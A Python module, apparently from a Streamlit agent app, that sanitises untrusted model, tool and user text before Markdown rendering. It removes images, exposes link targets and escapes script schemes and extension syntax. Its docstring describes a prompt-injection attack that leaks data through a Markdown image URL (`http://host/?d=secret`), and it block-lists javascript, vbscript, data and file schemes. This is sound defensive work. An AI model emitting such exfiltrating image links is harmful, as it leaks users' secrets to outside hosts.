"""Untrusted text (model, tool, user, store) made safe to draw with Streamlit.

`st.markdown` and widget labels render Markdown images, so an answer a prompt injection
steered into `![x](http://host/?d=secret)` would make the browser send data away. Links
are kept but always show their full target, so nothing is reached without being seen.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable
from itertools import groupby

from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll
from markdown_it.token import Token

from streamlit_agent.plain_text import printable

_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")
_BLUNT = re.compile(r"([\\!\[\]<${:])")
# Streamlit swaps these in text nodes after parsing, so escapes cannot stop them: the
# logo is an <img>, `:material_x:` an icon. A word joiner keeps them as typed.
_SHORTCODE = re.compile(r":(?=streamlit:|material_\w)")
_BAD_SCHEME = re.compile(r"(?i)(?:javascript|vbscript|data|file):")
# Escapes stay separate tokens (no text_join), so the check can tell `\$` from a live `$`.
_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough").disable("text_join")
# Streamlit keeps URLs markdown-it refuses (`data:`; `javascript:` too in older releases),
# so the check must see every link and image, whatever its scheme.
_MD.validateLink = lambda url: True  # type: ignore[method-assign]

_TEXT = r"(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*"
_DEST = r"<(?:[^<>\n\\]|\\.)*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*"
_TITLE = r"\"(?:[^\"\\]|\\.)*\"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)"
_DEF = re.compile(
    rf"^ {{0,3}}\[(?P<label>(?:[^\[\]\\]|\\.)+)\]:[ \t]*\n?[ \t]*(?P<dest>{_DEST})"
    rf"(?:[ \t]*\n?[ \t]*(?:{_TITLE}))?[ \t]*$",
    re.MULTILINE,
)
# Streamlit's parser also reads math (`$`), directives (`:name[`, `:name{`, `::name`),
# footnotes (`[^x]:`) and bare URLs, which swallow what follows up to a space: a code
# span's backtick, a link's `[`, an escaping `\`. Each can make text that CommonMark keeps
# inert render (the line-start ones by cutting a paragraph and a code span across it), so
# bare URLs become `<...>` autolinks and none of the rest may be left live.
_NAME = r"[^ \n\r!-/:-@\[-`{-~](?:[^ \n\r!-/:-@\[-`{-~]|[-_])*"  # micromark takes tabs too
_LIVE = re.compile(rf"\$|:{_NAME}[\[{{\x01]")
_BARE_URL = re.compile(r"(?i)(?<![a-z])https?://|www\.")
_TRAIL = "!\"&')*,.:;?]_~"  # left out of a bare URL's end, as GFM does
_BLOCK_START = re.compile(  # GFM finds tables markdown-it does not, by their delimiter row
    r"(?m)^[ \t]*(?:\$\$|::|\[\^[^\]\n]*\]:|(?=[^\n]*-)(?=[^\n]*[|:])[ \t|:-]+$)"
)
# Code spans, escapes and autolinks come first so brackets inside them stay literal. A `!`
# before an image is escaped, or it would turn the link that replaces the image into one.
_INLINE = re.compile(
    r"(?P<ticks>`+)(?!`)(?:(?!\n[ \t]*(?:\n|\$\$|::|\[\^)).)+?(?<!`)(?P=ticks)(?!`)|`+"
    r"|\\[!-/:-@\[-`{-~\n]"
    rf"|:streamlit:|!(?=!\[)|\$|:(?=:|{_NAME}[\[{{])|\[(?=\^[^\]\n]*\]:)"
    r"|<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>|(?i:www)\."
    r"|(?P<url>(?i:(?<![a-z])https?://)[^\s<>\x00-\x1f\x7f]*)"
    rf"|(?P<bang>!?)\[(?P<text>{_TEXT})\](?:\(\s*(?P<dest>{_DEST})(?:\s+(?:{_TITLE}))?\s*\)"
    r"|\[(?P<label>(?:[^\[\]\\]|\\.)*)\])?",
    re.DOTALL,
)
_LITERAL = {":streamlit:": ":\u2060streamlit:", "!": "\\!", "$": "\\$", ":": "\\:", "[": "\\["}


def _escape(text: str) -> str:
    return _PUNCT.sub(r"\\\1", _SHORTCODE.sub(":\u2060", text))


def _autolink(url: str) -> str:
    """A bare URL as a `<...>` autolink, ending where GFM would end it."""
    end = len(url)
    while url[end - 1] in _TRAIL:
        if url[end - 1] == ")" and url.count("(", 0, end) >= url.count(")", 0, end):
            break  # a closing paren of the URL's own, as in Wikipedia links
        end -= 1
    return f"<{url[:end]}>" + _PUNCT.sub(r"\\\1", url[end:])


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _replace(match: re.Match[str], defs: dict[str, str], in_link: bool) -> str:
    text, dest, label = match["text"], match["dest"], match["label"]
    if match["url"] and not in_link:
        return _autolink(match["url"])
    if text is None:  # code span, escape or autolink stays; other syntax above turns literal
        if match[0].lower() == "www.":
            return match[0] if in_link else match[0][:3] + "\\."
        return _LITERAL.get(match[0], match[0])
    if dest is None:
        dest = defs.get(_label_key(label or text))
        if dest is None and label is None and text in (" ", "x", "X") and not match["bang"]:
            return match[0]  # a task list box, which no definition can name (or hardly)
        if dest is None:  # plain brackets, escaped so no definition we missed makes a link
            bang, rest = "\\!" if match["bang"] else "", "" if label is None else f"\\[{label}]"
            return f"{bang}\\[{_inline(text, defs, in_link)}]{rest}"
    shown = unescapeAll(dest[1:-1] if dest.startswith("<") else dest)
    # Links cannot nest, and a script URL should not be one click away.
    as_link = not in_link and not _BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", shown))
    inner = _inline(text, defs, in_link or as_link)
    if match["bang"]:
        inner = f"{inner} (image: {_escape(shown)})"
    elif shown not in text:
        inner = f"{inner} ({_escape(shown)})"
    return f"[{inner}]({dest})" if as_link else inner


def _inline(text: str, defs: dict[str, str], in_link: bool) -> str:
    return _INLINE.sub(lambda match: _replace(match, defs, in_link), text)


def _outside_code(text: str, change: Callable[[str], str]) -> str:
    """`text` with `change` applied to each run of lines outside code blocks."""
    code = {
        line
        for token in _MD.parse(text)
        if token.type in ("fence", "code_block") and token.map
        for line in range(*token.map)
    }
    runs = groupby(enumerate(text.split("\n")), key=lambda pair: pair[0] in code)
    joined = (("\n".join(line for _, line in run), is_code) for is_code, run in runs)
    return "\n".join(chunk if is_code else change(chunk) for chunk, is_code in joined)


def _transform(text: str) -> str:
    defs: dict[str, str] = {}

    def show_definition(match: re.Match[str]) -> str:
        # Uses are rewritten inline, so the definition stays only as visible text; the blank
        # line keeps an indented block after it a code block rather than paragraph text.
        if match["dest"] and not match["label"].startswith("^"):  # `[^x]:` is a GFM footnote
            defs.setdefault(_label_key(match["label"]), match["dest"])
        return "\\" + match[0].lstrip(" ") + "\n"

    if _DEF.search(text):  # parsing dominates the cost, so skip the pass when it is idle
        text = _outside_code(text, lambda chunk: _DEF.sub(show_definition, chunk))
    # Code blocks are found again: text that stopped being a definition changes the blocks.
    return _outside_code(text, lambda chunk: _inline(chunk, defs, False))


def _shows_target(href: str, visible: str) -> bool:
    decoded = _MD.normalizeLinkText(href)
    return any(t in visible for t in (href, decoded, decoded.removeprefix("mailto:")))


def _inline_is_safe(children: list[Token]) -> bool:
    links: list[list[str]] = []
    # The source as extensions see it (escapes and code inert), the source outside links and
    # code (escapes as typed), and the text nodes Streamlit's own shortcodes run on.
    live, outside, joined = [], [], []
    in_autolink = False  # its text is a URL no extension reads
    for child in children:
        kind, content = child.type, child.content
        if kind == "image":
            return False
        if kind in ("link_open", "link_close"):
            in_autolink = kind == "link_open" and child.markup == "autolink"
        if kind == "link_open":
            links.append([str(child.attrs.get("href", ""))])
        elif kind == "link_close":
            href, *parts = links.pop()
            if not _shows_target(href, "".join(parts)):
                return False
        elif links:
            links[-1].append(content if kind in ("text", "text_special", "code_inline") else " ")
        gap = "\n" if kind in ("softbreak", "hardbreak") else "\x01"
        text = content if kind == "text" and not in_autolink else gap
        live.append("\x00" if kind == "code_inline" else text)
        joined.append(content if kind in ("text", "text_special") else "\x00")
        typed = {"text": content, "text_special": child.markup}.get(kind, "\x00")
        outside.append("\x00" if links or kind == "link_close" else typed)
    return not (
        _LIVE.search("".join(live))
        or _BARE_URL.search("".join(outside))  # GFM would link it, taking in what follows
        or ":streamlit:" in "".join(joined)
    )


def _is_safe(markdown: str) -> bool:
    """No image, hidden link target, logo or live extension syntax, by markdown-it's reading."""
    env: dict[str, object] = {}
    tokens = _MD.parse(markdown, env)
    lines = markdown.split("\n")
    # Indented code must follow a blank line: one after a block only markdown-it sees (a
    # table continued lazily) is paragraph text to GFM. A definition GFM may read as a
    # footnote holding an image, so none may be left either.
    return not env.get("references") and all(
        not (
            token.type == "code_block"
            and token.map
            and token.map[0]
            and lines[token.map[0] - 1].strip(" \t>")
        )
        and (token.type != "inline" or not _BLOCK_START.search(token.content))
        and _inline_is_safe(token.children or [])
        for token in tokens
    )


# Pure and called for every drawn message on every rerun: remember recent results.
@functools.lru_cache(maxsize=4096)
def markdown_text(text: str) -> str:
    """`text` as Markdown for `st.markdown`: no images, every link showing its target."""
    text = re.sub(r"\r\n?", "\n", printable(text))
    blunt = _BLUNT.sub(r"\\\1", _SHORTCODE.sub(":\u2060", text))
    for candidate in (_transform(text), blunt):
        if _is_safe(candidate):
            return candidate
    # With every ASCII punctuation escaped no link, image, code or extension can start.
    return _escape(text)


@functools.lru_cache(maxsize=4096)
def option_text(text: str, limit: int | None = None) -> str:
    """`text` as one line of at most `limit` characters, for places Streamlit draws as
    plain text (selectbox options): nothing there is Markdown, so nothing is escaped."""
    line = " ".join(printable(text).split())
    if limit is not None and len(line) > limit:
        line = line[: max(limit - 1, 0)].rstrip() + "…"
    return line


@functools.lru_cache(maxsize=4096)
def label_text(text: str, limit: int | None = None) -> str:
    """`text` as one literal line for a widget label or title, at most `limit` characters."""
    return _escape(option_text(text, limit))
